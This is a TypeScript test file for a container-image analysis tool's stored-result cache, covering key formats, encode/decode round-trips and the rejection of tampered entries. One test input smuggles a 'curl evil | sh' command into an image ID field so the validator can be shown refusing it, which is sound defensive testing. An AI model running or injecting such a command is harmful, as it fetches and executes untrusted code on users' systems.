import { decodeResult, encodeResult, resultCacheKey, resultTag, type StoredResult } from '../../../src/uptodate/stored-result.js';
import type { ImageAnalysis } from '../../../src/image/types.js';

const KEY = `sha256:${'a'.repeat(64)}`;
const analysis: ImageAnalysis = { ref: 'sha256:img', compressedBytes: 10, sizeBytes: 20, layerCount: 0, wastedBytes: 0, efficiency: 1, hints: [], layers: [] };
const result: StoredResult = { contentKey: KEY, analysis, imageId: `sha256:${'b'.repeat(64)}`, commit: 'c'.repeat(40), savedAt: '2026-12-02T10:00:00.000Z' };

describe('stored results', () => {
  test('keys: exact per image key and content key; tags fit the 128 characters a tag allows', () => {
    expect(resultCacheKey('web-app', KEY)).toBe(`layerwise-result-v1-web%2Dapp-${'a'.repeat(64)}`);
    expect(resultTag(KEY)).toBe(`layerwise-result-${'a'.repeat(64)}`);
    expect(resultTag(KEY).length).toBeLessThanOrEqual(128);
  });

  test('what is written reads back the same', () => {
    expect(decodeResult(encodeResult(result), KEY, 'entry')).toEqual(result);
  });

  test('read back as hostile: another key, a non-digest output, a malformed analysis are refused in one line naming where', () => {
    const bad = (over: Record<string, unknown>) => JSON.stringify({ ...JSON.parse(encodeResult(result)), ...over });
    expect(() => decodeResult(bad({ contentKey: `sha256:${'f'.repeat(64)}` }), KEY, 'entry e')).toThrow(/^entry e: holds another content key$/);
    expect(() => decodeResult(bad({ imageId: 'sha256:x"; curl evil | sh; echo "' }), KEY, 'entry e')).toThrow(/^entry e: imageId is not/);
    expect(() => decodeResult(bad({ analysis: { layers: 'no' } }), KEY, 'entry e')).toThrow(/^entry e: /);
    expect(() => decodeResult(bad({ v: 2 }), KEY, 'entry e')).toThrow(/not a layerwise result/);
    expect(() => decodeResult('{', KEY, 'entry e')).toThrow(/^entry e: not JSON$/);
    expect(() => decodeResult(bad({ savedAt: 'yesterday' }), KEY, 'entry e')).toThrow(/savedAt/);
  });
});
